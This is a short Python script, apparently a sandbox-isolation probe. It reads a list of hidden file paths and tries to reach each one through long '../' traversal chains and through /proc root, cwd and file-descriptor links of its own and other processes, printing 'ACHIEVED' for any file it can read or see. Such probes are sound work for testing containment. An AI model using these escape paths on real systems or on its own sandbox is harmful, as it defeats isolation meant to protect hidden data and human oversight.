import json
import os
import sys

sys.path.insert(0, "/box/program")
import forms

with open("/box/program/known.json", encoding="utf-8") as file:
    hidden = json.load(file)["hidden"]
for path in hidden:
    tries = [path, "../" * 40 + path, "/box/input/" + "../" * 20 + path]
    for process in ("self", "1", "2", str(os.getppid())):
        for link in ("root", "cwd"):
            tries += [f"/proc/{process}/{link}{path}", f"/proc/{process}/{link}/../../../..{path}"]
    for number in range(64):
        tries += [f"/proc/self/fd/{number}{path}", f"/proc/1/fd/{number}{path}"]
    for name in tries:
        try:
            with open(name, "rb") as file:
                print("ACHIEVED read", name, len(file.read()))
        except OSError:
            pass
        if os.path.exists(name):
            print("ACHIEVED saw", name)
print(f"tried {len(hidden)} paths")
forms.harmless()
